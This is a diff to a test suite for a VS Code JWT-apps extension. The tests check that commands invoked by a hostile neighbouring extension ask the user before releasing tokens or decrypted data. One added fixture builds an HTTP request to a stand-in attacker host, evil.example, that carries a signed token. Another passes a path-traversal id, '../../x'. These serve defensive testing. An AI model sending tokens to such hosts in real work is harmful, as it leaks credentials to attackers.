@@ -23,6 +23,7 @@ describe("Another extension", function () {
   let envelope: string;
   let file: vscode.Uri;
   let jwe: string;
+  let open: vscode.Uri | undefined;
 
   before(async () => {
     hostile = await neighbour();
@@ -73,6 +74,7 @@ describe("Another extension", function () {
     ["jwtApps.mintTokenWithOptions", () => ({ app: app.id }), "modal", /^Make tokens of “Mine”/],
     ["jwtApps.newRequestFile", () => ({ app: app.id, endpoint: "sessions-history", use: "line" }), "modal", /^Make tokens of “Mine”/],
     ["jwtApps.insertRequest", () => ({ app: app.id, endpoint: "sessions-history", use: "line" }), "modal", /^Make tokens of “Mine”/],
+    ["jwtApps.refreshToken", () => ({ uri: open?.toString(), range: [{ line: 1, character: 10 }, { line: 1, character: 10 }], send: true }), "modal", /^(?:Make tokens of|Send a fresh token of) “Mine”/],
     ["jwtApps.decryptSelection", () => ({ uri: file.toString() }), "modal", /^Decrypt with the keys of your apps/],
     ["jwtApps.decryptSelection", () => ({ app: keyed.id }), "modal", /^Decrypt with the keys of “Keyed”/],
     ["jwtApps.decryptClipboard", () => ({ app: keyed.id }), "modal", /^Decrypt with the keys of “Keyed”/],
@@ -92,6 +94,7 @@ describe("Another extension", function () {
   for (const [command, argument, door, question] of rows) {
     it(`meets a ${door} at ${command.replace("jwtApps.", "")}, ${JSON.stringify(argument.toString().replace(/^\(\) => /, ""))}`, async () => {
       if (command === "jwtApps.insertToken" || command === "jwtApps.insertRequest") await hostile.open("", "http");
+      if (command === "jwtApps.refreshToken") open = (await hostile.open(`GET https://evil.example/x\nauth: ${await signedToken({ appId: app.clientId, exp: 1 }, newSecret())}\n`, "http")).document.uri;
       const given = argument();
       for (const handed of [given, { ...(given as object), from: "editor" }]) {
         const { asked, modals, result } = await asking(() => hostile.call(command, handed));
@@ -104,6 +107,36 @@ describe("Another extension", function () {
       const { store } = await activated();
       assert.deepEqual((await store.apps()).map(({ name }) => name).sort(), ["Keyed", "Mine"]);
       assert.ok((await store.get(app.id))?.hasPreviousSecret);
+    });
+  }
+
+  /** What asks nothing, as the table says, gives nothing away either. */
+  const free: readonly (readonly [command: string, argument: () => unknown])[] = [
+    ["jwtApps.importApps", () => ({ text: JSON.stringify({ format: "jwt-apps-export", version: 1, apps: [hs256App("Imported")] }) })],
+    ["jwtApps.copyClientId", () => ({ app: app.id })],
+    ["jwtApps.assignScopes", () => ({ app: app.id, scopes: ["xo/bot-sessions"] })],
+    ["jwtApps.publishScopes", () => ({ app: app.id })],
+    ["jwtApps.explainError", () => ({ text: '{"errors":[{"msg":"Invalid SDK credentials","code":4002}]}' })],
+    ["jwtApps.copyConfiguration", () => ({ app: app.id, use: "botkit" })],
+    ["jwtApps.encryptSelection", () => ({ app: keyed.id })],
+    ["jwtApps.copyForLocalPlatform", () => ({ app: app.id })],
+    ["jwtApps.forgetEnvelopeProfile", () => ({ app: app.id })],
+    ["jwtApps.closeDecrypted", () => ({})],
+    ["jwtApps.forgetTokens", () => ({})],
+    ["jwtApps.refresh", () => ({})],
+    ["jwtApps.stopLocalPlatform", () => ({})],
+    ["jwtApps.removeScope", () => ({ app: { id: app.id }, scopeId: "xo/bot-sessions" })],
+    ["jwtApps.copyPublicKey", () => ({ app: { name: "x" }, credential: { publicKey: "x" } })],
+    ["jwtApps.openAppFile", () => ({ entry: { id: "../../x" } })],
+  ];
+  for (const [command, argument] of free) {
+    it(`is asked nothing at ${command.replace("jwtApps.", "")}, and gets nothing that is secret`, async () => {
+      if (command === "jwtApps.encryptSelection") await hostile.open("text", "plaintext");
+      const { asked, result, error } = await asking(() => hostile.call(command, argument()));
+      assert.deepEqual([asked, error], [[], undefined]);
+      await assertNothingLeft(result);
+      const { store } = await activated();
+      assert.deepEqual((await store.get(app.id))?.scopes.map(({ id }) => id), ["xo/bot-sessions"]);
     });
   }
 
@@ -151,6 +184,16 @@ describe("Another extension", function () {
       assert.match(readFileSync(join(rootOf(), "SECURITY.md"), "utf8"), /acceptSelectedQuickOpenItem/);
     });
 
+    it("has what stands in the active editor decrypted in front of the person, as SECURITY.md says", async () => {
+      const editor = await hostile.open(envelope, "json");
+      await until(() => vscode.window.activeTextEditor?.document === editor.document, "the editor is active");
+      const { asked, result } = await asking(() => hostile.call("jwtApps.decryptSelection"));
+      assert.deepEqual(asked.filter((kind) => kind !== "message"), []);
+      const { uri } = result as { uri: string };
+      await until(() => vscode.window.tabGroups.all.some(({ tabs }) => tabs.some(({ input }) => input instanceof vscode.TabInputText && input.uri.toString() === uri)), "it opens in an editor");
+      assert.match(readFileSync(join(rootOf(), "SECURITY.md"), "utf8"), /A call without arguments, or with what a lens hands out, decrypts what stands in the active editor/);
+    });
+
     it("has every other command ask where it would take or tell something", async () => {
       for (const [command, door] of [
         ["jwtApps.mintToken", "pick"],
@@ -185,8 +228,9 @@ describe("Another extension", function () {
         const { constructor } = argument as { constructor: new (...args: unknown[]) => object };
         for (const made of [argument, { ...(argument as object), app: app.id }, new constructor({ app: app.id }), Object.assign(Object.create(Object.getPrototypeOf(argument) as object), { app: app.id, argument: { app: app.id } })]) {
           for (const command of ["jwtApps.copyToken", "jwtApps.mintToken", "jwtApps.copyAsCurl", "jwtApps.exportApps", "jwtApps.decryptFile", "jwtApps.decryptClipboard"]) {
-            const { asked, modals, result } = await asking(() => hostile.call(command, made));
-            assert.ok(asked.length > 0 || result === undefined, command);
+            const { asked, modals, said, result, error } = await asking(() => hostile.call(command, made));
+            // What a lens names is no argument of this command's form, or a question is asked.
+            assert.ok(asked.length > 0 || [...said, error?.message].some((text) => text?.includes("has the wrong type")), `${command} asked nothing`);
             assertDeclinesFirst({ modals });
             assert.equal(result, undefined, command);
           }
@@ -273,8 +317,8 @@ describe("Another extension", function () {
     assert.deepEqual([...table.keys()].sort(), [...commands].sort());
     for (const [command, , door] of rows) assert.ok(door === "modal" ? /question/.test(table.get(command) ?? "") : /prompt/.test(table.get(command) ?? ""), `${command}: ${table.get(command)}`);
     const asks = new Set([...table].filter(([, words]) => /^question/.test(words)).map(([command]) => command));
-    asks.delete("jwtApps.refreshToken");
     assert.deepEqual([...asks].filter((command) => !rows.some(([one]) => one === command)), []);
+    for (const [command] of free) assert.match(table.get(command) ?? "", /^(?:no question|nothing without a row|adds new ones)/, command);
   });
 });
 
